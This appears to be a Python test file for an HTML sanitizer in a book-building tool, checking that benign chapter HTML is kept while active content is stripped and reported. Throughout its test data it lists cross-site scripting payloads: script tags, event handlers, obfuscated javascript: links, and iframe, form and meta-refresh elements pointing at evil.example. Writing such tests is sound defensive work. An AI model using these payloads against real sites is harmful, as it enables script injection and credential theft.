"""The allow-list raw HTML from a chapter is cleaned with, and where a chapter writes raw HTML."""

from __future__ import annotations

from pathlib import Path

import pytest
from docutils import nodes
from hypothesis import given, settings
from hypothesis import strategies as st

from polybook.dialect import parse_text
from polybook.dialect.raw_html import active_parts, clean, clean_pieces, raw_html
from polybook.stage.safe_html import clean_doctree, unsafe_links

#: What d2l's chapters and front pages write: kept as written.
BENIGN = [
    '<div align="center"><img width="200" src="static/frontpage/_images/eq.jpg"></div>',
    '<h5 align="center"><i>The best way to understand deep learning is learning by doing.</i></h5>',
    "<p>“A quote”</p><b>&mdash; Someone, Somewhere</b>",
    '<a href="https://d2l.ai/">d2l</a><br><sup>1</sup><sub>2</sub><center>x</center>',
    '<table><tbody><tr><td colspan="2" align="left">a</td></tr></tbody></table>',
    '<p style="text-align:center">centred</p>',
    '<img src="https://d2l.ai/_images/map.png" alt="map" width="400">',
    '<div class="output html"><b class="rich-output">bold</b></div>',  # a cell's HTML output
]


@pytest.mark.parametrize("html", BENIGN)
def test_benign_html_is_kept_as_written(html: str) -> None:
    assert clean(html) == html.replace("&mdash;", "\u2014")
    assert active_parts(html) == []


#: payload -> what is left of it
PAYLOADS = {
    "<script>window.pwned = 1</script>after": "after",
    '<img src="x" onerror="window.pwned = 1">': '<img src="x">',
    '<a href="javascript:window.pwned = 1">x</a>': "<a>x</a>",
    '<a href=" JaVa\tScRiPt:alert(1)">x</a>': "<a>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>': "<a>x</a>",
    '<iframe src="https://evil.example/"></iframe>': "",
    '<svg onload="window.pwned = 1"></svg>': "",
    '<object data="x.swf"></object><embed src="x.swf">': "",
    '<form action="https://evil.example/"><input name="password"><button>go</button></form>': "go",
    "<style>body { display: none }</style>text": "text",
    '<p style="position:fixed;top:0;color:red">x</p>': '<p style="color:red">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "",
    '<base href="https://evil.example/">': "",
    '<img src="data:text/html,<script>alert(1)</script>">': "<img>",
    "<!-- a comment --><b>x</b>": "<b>x</b>",
}


#: Cleaned, but nothing that runs: the check says nothing of them.
QUIET = ('<p style="position:fixed;top:0;color:red">x</p>', "<!-- a comment --><b>x</b>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_active_html_is_taken_out_and_told(payload: str) -> None:
    assert clean(payload) == PAYLOADS[payload]
    assert bool(active_parts(payload)) == (payload not in QUIET)


def test_the_pieces_of_a_page_keep_their_pairs() -> None:
    """A wrapper opened in one block and closed in another (Markdown between) stays a wrapper;
    each piece alone would be closed at once and its end dropped."""
    pieces = ['<div align="center">\n', "</div>\n", '<a href="javascript:x" onclick="y">', "</a>", "<sup>", "</sup>"]
    assert clean_pieces(pieces) == ['<div align="center">\n', "</div>\n", "<a>", "</a>", "<sup>", "</sup>"]


def test_a_script_between_pieces_costs_only_its_own_pairing() -> None:
    pieces = ['<div align="center">', "</div>", "<script>", "</script>", "<b>", "</b>"]
    assert clean_pieces(pieces) == ['<div align="center">', "</div>", "", "", "<b>", "</b>"]


def test_a_piece_that_ends_inside_a_tag_cannot_take_the_page_in() -> None:
    """The page's own HTML between two pieces never ends up inside an attribute."""
    cleaned = clean_pieces(['<img src="a', 'b" onerror=alert(1)>'])
    assert "onerror=" not in "".join(c for c in cleaned if "<" in c)
    assert all(not c.startswith("<img") or c.endswith(">") for c in cleaned)


def test_raw_html_is_found_where_markdown_sees_it_with_its_line() -> None:
    doc = parse_text(
        "# Title <b>x</b>\n\n"
        "A tag <sup>1</sup>, not in `<code>` nor in $a<b>c$,\n"
        "then <img src=x onerror=alert(1)>.\n\n"
        "<div>\n<script>alert(1)</script>\n</div>\n\n"
        "- an item\n\n  <iframe src=x></iframe>\n\n"
        "```eval_rst\n.. raw:: html\n   :file: x.html\n\n.. raw:: html\n\n   <b>y</b>\n   <script>z</script>\n```\n",
        "x.md",
    )
    found = [(piece.line, piece.kind, piece.html) for piece in raw_html(doc)]
    assert found == [
        (1, "inline", "<b>"),
        (1, "inline", "</b>"),
        (3, "inline", "<sup>"),
        (3, "inline", "</sup>"),
        (4, "inline", "<img src=x onerror=alert(1)>"),
        (6, "block", "<div>\n<script>alert(1)</script>\n</div>"),
        (12, "block", "<iframe src=x></iframe>"),
        (20, "rst", "<b>y</b>\n<script>z</script>"),
    ]
    assert [(p.what, p.offset) for p in active_parts(found[5][2])] == [("<script>", 1)]


def test_a_doctree_loses_its_active_html_and_links() -> None:
    """What the site's Sphinx extension does to an untrusted page."""
    doc = nodes.document(None, None)
    para = nodes.paragraph()
    para += nodes.raw("", '<div align="center">', format="html")
    para += nodes.reference("", "click", refuri="javascript:alert(1)")
    para += nodes.reference("", "d2l", refuri="https://d2l.ai/")
    para += nodes.raw("", "<script>alert(1)</script></div>", format="html")
    para += nodes.raw("", "\\input{x}", format="latex")
    doc += para
    doc += nodes.meta(content="0;url=https://evil.example/", **{"http-equiv": "refresh"})
    clean_doctree(doc)
    unsafe_links(doc)
    assert [n.astext() for n in doc.findall(nodes.raw)] == ['<div align="center">', "</div>", "\\input{x}"]
    assert [n["refuri"] for n in doc.findall(nodes.reference)] == ["https://d2l.ai/"]
    assert "click" in para.astext() and not list(doc.findall(nodes.meta))


def test_the_site_trusts_only_the_source_pages_conf_py_names() -> None:
    """And polybook's own status page, whose tables are filled in its raw HTML after Sphinx."""
    from polybook.config import load_config
    from polybook.render.settings import overrides, site_info
    from polybook.stage.safe_html import CONFIG_NAME, POLICY_NAME

    config = load_config(Path(__file__).parent / "fixtures" / "html_safety" / "conf.py")
    site = site_info(config, {})
    en, ja = overrides(config, "en", site, []), overrides(config, "ja", site, [])
    assert (en[CONFIG_NAME], ja[CONFIG_NAME]) == (["polybook-status", "trusted"], ["polybook-status"])
    assert en[POLICY_NAME] == ja[POLICY_NAME] and "polybook.stage.safe_html" in en["extensions"]


FRAGMENTS = [
    '<div align="center">', "</div>", "<script>", "</script>", "alert(1)", '<img src="a', 'b" onerror=alert(1)>',
    '<a href="javascript:alert(1)">', "</a>", "<table>", "<tr><td>", "</td></tr></table>", "<!--", "-->", "<style>",
    "<textarea>", "<svg onload=alert(1)>", "<math>", "<iframe src=https://evil.example/>", "<noscript>", "<xmp>",
    "<plaintext>", "'", '"', ">", "<", "<b>", "</b>", "<p onclick=alert(1)>", "<template>", "<select>",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=4).map("".join), min_size=1, max_size=6))
def test_no_pieces_make_active_html_around_the_pages_own(pieces: list[str]) -> None:
    """Whatever the pieces, a page made of them with its own HTML between has nothing active."""
    page = '<p class="x">the page&#x27;s own</p>'.join(clean_pieces(pieces))
    assert active_parts(page) == [], page


def test_markdown_prose_loses_only_what_is_active() -> None:
    """A notebook's Markdown cell: benign HTML and code spans as written, an active piece
    cleaned where it stands, or escaped to text when Markdown reads it indented (in a list)."""
    from polybook.dialect.raw_html import clean_markdown, math_links

    prose = 'Some <b>bold</b>, `<img onerror=1>` and <img src="x" onerror="alert(1)"> <a href="javascript:x">c</a>.'
    assert clean_markdown(prose) == 'Some <b>bold</b>, `<img onerror=1>` and <img src="x"> <a>c</a>.'
    assert clean_markdown("<script>alert(1)</script>") == ""
    assert clean_markdown('<div align="center">') == '<div align="center">'
    listed = '- item\n\n  <div onclick="x">\n  <b>y</b>\n  </div>'
    assert clean_markdown(listed) == '- item\n\n  &lt;div onclick="x"&gt;\n  &lt;b&gt;y&lt;/b&gt;\n  &lt;/div&gt;'
    formula = r"$\href{javascript:alert(1)}{x} + \href{https://d2l.ai}{y}$"
    assert math_links(formula) == ["javascript"]
    assert clean_markdown(formula) == r"$\href{#}{x} + \href{https://d2l.ai}{y}$"
